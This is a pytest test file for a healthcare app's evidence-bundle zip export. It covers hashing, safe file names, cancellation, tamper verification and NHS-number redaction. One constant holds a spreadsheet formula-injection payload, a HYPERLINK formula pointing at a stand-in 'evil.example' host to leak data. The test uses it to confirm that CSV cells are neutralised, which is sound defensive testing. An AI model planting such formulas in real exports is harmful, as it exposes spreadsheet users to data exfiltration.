"""The evidence bundle written from a real workspace and read back with zipfile."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import stat
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path, PurePosixPath

import docx
import pytest

from qsi_desktop.errors import QsiError
from qsi_desktop.export.bundle import (
    BundleSummary,
    ExportCancelled,
    ExportError,
    bundle_items,
    verify_bundle,
    write_bundle,
)
from qsi_desktop.privacy import find_nhs_numbers
from qsi_desktop.services.app import App
from qsi_desktop.services.evidence import EvidenceDetails, add_file, add_link, evidence_dict, list_evidence
from qsi_desktop.services.profile import profile_dict
from qsi_desktop.store.models import EvidenceItem
from qsi_desktop.store.workspace import Workspace

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Open")'
LONG_TITLE = "Radiation protection supervisor appointment letters " * 6  # 318 characters


@dataclass
class Exported:
    ws: Workspace
    app: App
    pack: Path
    folder: Path  # where bundles go: tests check nothing else is left there

    def write(self, name: str = "bundle.zip", **options: object) -> BundleSummary:
        entries, links = bundle_items(list_evidence(self.ws))
        arguments: dict = {
            "pack": self.pack,
            "entries": entries,
            "links": links,
            "store": self.ws.files,
            "snapshot": snapshot_of(self.ws),
            "section_of": lambda ref: self.app.statement(ref).section_ref,
        }
        return write_bundle(self.folder / name, **(arguments | options))

    def item(self, title_start: str) -> EvidenceItem:
        with self.ws.reading() as session:
            return next(i for i in session.query(EvidenceItem) if i.title.startswith(title_start))


def snapshot_of(ws: Workspace) -> dict:
    return {"profile": profile_dict(ws), "evidence": [evidence_dict(r) for r in list_evidence(ws)]}


@pytest.fixture
def exported(
    make_workspace: Callable[..., Workspace], full_app: App, evidence_files: Callable[[str], Path], tmp_path: Path
) -> Exported:
    ws = make_workspace()

    def add(kind: str, title: str, targets: str) -> None:
        add_file(ws, full_app, evidence_files(kind), EvidenceDetails(title=title, targets=[targets]), actor="tester")

    add("docx", "Incident review", "XR-101,XR-502,XR-502:1")  # the suggestion link is the same folder
    add("xlsx", "CON: a/b*?", "XR-101")
    add("pdf", LONG_TITLE, "XR-203")
    add("csv", HYPERLINK, "XR-101")
    add("csv", "Dose log", "CT-901")  # the same content again: stored once, bundled under both items
    add_link(
        ws, full_app, "https://intranet.example/rpa", EvidenceDetails(title="RPA page", targets=["XR-501"]), actor="t"
    )
    pack = tmp_path / "Riverside QSI submission.docx"
    document = docx.Document()
    document.add_heading("QSI submission", 0)
    document.save(str(pack))
    folder = tmp_path / "out"
    folder.mkdir()
    return Exported(ws, full_app, pack, folder)


def _read(path: Path) -> tuple[dict, dict[str, bytes]]:
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    return json.loads(members["manifest.json"]), members


def test_bundle_layout_one_copy_per_statement_and_every_hash(exported: Exported) -> None:
    summary = exported.write()
    assert summary == BundleSummary(6, summary.path.stat().st_size, exported.folder / "bundle.zip", 0)
    assert list(exported.folder.iterdir()) == [summary.path]
    manifest, members = _read(summary.path)
    by_title = {item["title"]: item for item in manifest["items"]}
    assert by_title["Incident review"]["paths"] == [
        "evidence/XR-1/XR-101/E-001 Incident review.docx",
        "evidence/XR-5/XR-502/E-001 Incident review.docx",
    ]
    assert by_title["Incident review"]["statements"] == ["XR-101", "XR-502", "XR-502:1"]
    assert by_title["Dose log"]["paths"] == ["evidence/CT-9/CT-901/E-005 Dose log.csv"]
    assert by_title["Dose log"]["sha256"] == by_title[HYPERLINK]["sha256"]
    link = by_title["RPA page"]
    assert (link["kind"], link["paths"], link["sha256"], link["url"]) == (
        "link",
        [],
        None,
        "https://intranet.example/rpa",
    )
    assert manifest["pack"]["path"] == "Riverside QSI submission.docx"
    assert hashlib.sha256(members[manifest["pack"]["path"]]).hexdigest() == manifest["pack"]["sha256"]
    copies = 0
    for item in manifest["items"]:
        for name in item["paths"]:
            assert hashlib.sha256(members[name]).hexdigest() == item["sha256"]
            copies += 1
    assert copies == summary.files
    assert set(members) == {
        manifest["pack"]["path"],
        "manifest.json",
        "manifest.csv",
        "snapshot.json",
        *(name for item in manifest["items"] for name in item["paths"]),
    }
    assert json.loads(members["snapshot.json"]) == json.loads(json.dumps(snapshot_of(exported.ws), default=str))
    assert verify_bundle(summary.path) == []


def test_already_compressed_types_are_stored_and_text_is_deflated(exported: Exported) -> None:
    with zipfile.ZipFile(exported.write().path) as archive:
        methods = {PurePosixPath(i.filename).suffix: i.compress_type for i in archive.infolist()}
    assert methods[".pdf"] == methods[".docx"] == methods[".xlsx"] == zipfile.ZIP_STORED
    assert methods[".csv"] == methods[".json"] == zipfile.ZIP_DEFLATED


def test_names_in_the_zip_are_windows_safe_and_unique(exported: Exported) -> None:
    _, members = _read(exported.write().path)
    for name in members:
        for part in name.split("/"):
            assert part and not set(part) & set('<>:"\\|?*') and part == part.strip(" .")
            assert part.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL"}
            assert len(part) <= 100
    assert len({name.casefold() for name in members}) == len(members)
    assert "evidence/XR-1/XR-101/E-002 CON_ a_b__.xlsx" in members
    long_name = next(name for name in members if "/E-003 " in name)
    assert long_name.startswith("evidence/XR-2/XR-203/E-003 Radiation protection supervisor")
    assert long_name.endswith(".pdf") and len(PurePosixPath(long_name).name) == 100


def test_manifest_csv_cells_cannot_run_as_formulas(exported: Exported) -> None:
    _, members = _read(exported.write().path)
    assert members["manifest.csv"].startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the mark
    rows = list(csv.DictReader(io.StringIO(members["manifest.csv"].decode("utf-8-sig"))))
    assert list(rows[0]) == ["id", "label", "title", "kind", "paths", "sha256", "statements", "url"]
    formula_row = next(row for row in rows if HYPERLINK in row["title"])
    assert formula_row["title"] == "'" + HYPERLINK
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    incident = next(row for row in rows if row["title"] == "Incident review")
    assert incident["paths"].split(" | ") == [
        "evidence/XR-1/XR-101/E-001 Incident review.docx",
        "evidence/XR-5/XR-502/E-001 Incident review.docx",
    ]
    assert incident["id"] == "1" and incident["label"] == "E-001"
    # the JSON manifest keeps the title as typed: JSON is not opened by spreadsheets
    manifest, _ = _read(exported.folder / "bundle.zip")
    assert HYPERLINK in [item["title"] for item in manifest["items"]]


def _tamper(ws: Workspace, sha: str) -> None:
    stored = ws.files.path_for(sha)
    stored.chmod(stat.S_IRUSR | stat.S_IWUSR)
    data = bytearray(stored.read_bytes())
    data[len(data) // 2] ^= 0x01
    stored.write_bytes(bytes(data))


def test_a_changed_stored_file_stops_the_export_naming_the_item(exported: Exported) -> None:
    (exported.folder / "bundle.zip").write_bytes(b"the previous bundle")
    _tamper(exported.ws, exported.item("CON").file_sha256)
    with pytest.raises(ExportError, match=r"evidence E-002 “CON: a/b\*\?”: its stored file changed") as caught:
        exported.write()
    assert isinstance(caught.value, QsiError)
    assert "no bundle was written" in str(caught.value)
    # the earlier bundle is untouched and nothing half-written sits beside it
    assert [p.name for p in exported.folder.iterdir()] == ["bundle.zip"]
    assert (exported.folder / "bundle.zip").read_bytes() == b"the previous bundle"


def test_a_missing_stored_file_stops_the_export_before_writing(exported: Exported) -> None:
    stored = exported.ws.files.path_for(exported.item("Incident").file_sha256)
    stored.unlink()
    with pytest.raises(ExportError, match="evidence E-001 “Incident review”: its file is missing"):
        exported.write()
    assert list(exported.folder.iterdir()) == []


def test_cancel_leaves_nothing_behind(exported: Exported) -> None:
    seen: list[tuple[int, int, str]] = []
    with pytest.raises(ExportCancelled, match="cancelled"):
        exported.write(progress=lambda *args: seen.append(args), cancel=lambda: len(seen) >= 3)
    assert len(seen) == 3 and seen[0] == (0, 8, "adding Riverside QSI submission.docx")
    assert list(exported.folder.iterdir()) == []


def test_ctrl_c_leaves_nothing_behind(exported: Exported) -> None:
    def interrupt(done: int, total: int, message: str) -> None:
        if done == 4:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        exported.write(progress=interrupt)
    assert list(exported.folder.iterdir()) == []


def test_progress_counts_files_to_the_end(exported: Exported) -> None:
    seen: list[tuple[int, int, str]] = []
    exported.write(progress=lambda *args: seen.append(args))
    assert [done for done, _, _ in seen] == list(range(9))
    assert {total for _, total, _ in seen} == {8}
    assert seen[-1] == (8, 8, "bundle written")


def test_an_unwritable_destination_is_an_export_error(exported: Exported, tmp_path: Path) -> None:
    (tmp_path / "blocker").write_text("a file where a folder should be")
    with pytest.raises(ExportError, match="cannot write the bundle there"):
        write_bundle(
            tmp_path / "blocker" / "bundle.zip",
            pack=exported.pack,
            entries=[],
            store=exported.ws.files,
            snapshot={},
            section_of=str,
        )


def test_verify_bundle_finds_changed_missing_and_unlisted_files(exported: Exported, tmp_path: Path) -> None:
    _, members = _read(exported.write().path)
    changed = "evidence/XR-1/XR-101/E-002 CON_ a_b__.xlsx"
    dropped = "evidence/XR-5/XR-502/E-001 Incident review.docx"
    members[changed] = members[changed] + b"x"
    del members[dropped]
    members["evidence/XR-1/XR-101/extra.txt"] = b"slipped in"
    forged = tmp_path / "forged.zip"
    with zipfile.ZipFile(forged, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    assert verify_bundle(forged) == [
        f"{dropped}: listed for E-001 Incident review but not in the zip",
        f"{changed}: its content does not match the hash the manifest gives for E-002 CON: a/b*?",
        "evidence/XR-1/XR-101/extra.txt: in the zip but not in the manifest",
    ]
    (tmp_path / "not.zip").write_bytes(b"plain text")
    assert verify_bundle(tmp_path / "not.zip")[0].endswith("not a readable zip (File is not a zip file)")
    with zipfile.ZipFile(tmp_path / "other.zip", "w") as archive:
        archive.writestr("readme.txt", "hello")
    assert verify_bundle(tmp_path / "other.zip") == [
        "manifest.json: missing or unreadable (\"There is no item named 'manifest.json' in the archive\")"
    ]


def test_the_pack_name_cannot_clash_with_the_manifest(exported: Exported) -> None:
    exported.pack = exported.pack.rename(exported.pack.with_name("Manifest.JSON"))
    manifest, members = _read(exported.write().path)
    assert manifest["pack"]["path"] == "Manifest (2).JSON"
    assert json.loads(members["manifest.json"])["format"] == "qsi-evidence-bundle"


def test_no_patient_data_in_what_the_bundle_writes_itself(exported: Exported, planted: tuple[str, ...]) -> None:
    # Data stored before the free-text check existed, or by a plugin: a title and a link holding numbers.
    with exported.ws.transaction("legacy") as session:
        item = session.query(EvidenceItem).filter(EvidenceItem.title == "Dose log").one()
        item.title = f"Dose log for {planted[0]}"
        item.file_name = f"{planted[3]}.csv"
        link = session.query(EvidenceItem).filter(EvidenceItem.title == "RPA page").one()
        link.link_url = f"https://intranet.example/rpa?patient={planted[1]}"
    summary = exported.write()
    assert summary.redacted >= 3
    _, members = _read(summary.path)
    written_by_us = {
        name: members[name].decode("utf-8-sig") for name in ("manifest.json", "manifest.csv", "snapshot.json")
    }
    written_by_us["names"] = "\n".join(members)
    for name, text in written_by_us.items():
        # SHA-256 digests are hex: now and then ten of their digits pass the modulus-11 check by chance.
        assert not find_nhs_numbers(re.sub(r"\b[0-9a-f]{64}\b", "", text)), name
        assert "9434765919" not in text.replace(" ", "").replace("-", "").replace(".", ""), name
    assert "Dose log for [NHS number removed]" in written_by_us["manifest.json"]
    # the evidence documents are the user's own and go in as they are (the scan warned about them)
    word_copy = next(data for name, data in members.items() if name.endswith("Incident review.docx"))
    paragraphs = [p.text for p in docx.Document(io.BytesIO(word_copy)).paragraphs]
    assert any(planted[0] in text for text in paragraphs)
    assert verify_bundle(summary.path) == []


def test_a_large_file_can_be_cancelled_part_way(
    exported: Exported, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from qsi_desktop.export import bundle

    big = tmp_path / "big.txt"
    big.write_text("dose,42\n" * 40_000)  # 320 kB: 320 chunks of 1 kB, cancel is asked every 16
    add_file(exported.ws, exported.app, big, EvidenceDetails(title="Big", targets=["XR-101"]), actor="tester")
    monkeypatch.setattr(bundle, "_CHUNK", 1024)
    entries, _ = bundle_items(r for r in list_evidence(exported.ws) if r.title == "Big")
    events: list[str] = []

    started = "adding evidence/XR-1/XR-101/E-007 Big.txt"

    def cancel() -> bool:  # yes at the third check after the big file was started
        events.append("asked")
        return started in events and len(events) - events.index(started) > 3

    with pytest.raises(ExportCancelled):
        exported.write(entries=entries, links=[], progress=lambda d, t, m: events.append(m), cancel=cancel)
    assert events[-1] == "asked" and "writing the manifest" not in events  # stopped inside the big file
    assert list(exported.folder.iterdir()) == []


def test_snapshot_dates_are_written_and_a_bad_snapshot_writes_nothing(exported: Exported) -> None:
    from datetime import date

    summary = exported.write(snapshot={"as_of": date(2026, 3, 31), "folder": Path("ws")})
    _, members = _read(summary.path)
    assert json.loads(members["snapshot.json"]) == {"as_of": "2026-03-31", "folder": "ws"}
    with pytest.raises(TypeError, match="cannot hold a set"):
        exported.write("other.zip", snapshot={"refs": {"XR-101"}})
    assert [p.name for p in exported.folder.iterdir()] == ["bundle.zip"]


def test_a_missing_pack_is_an_export_error(exported: Exported) -> None:
    exported.pack.unlink()
    with pytest.raises(ExportError, match="the pack to bundle is missing"):
        exported.write()
    assert list(exported.folder.iterdir()) == []
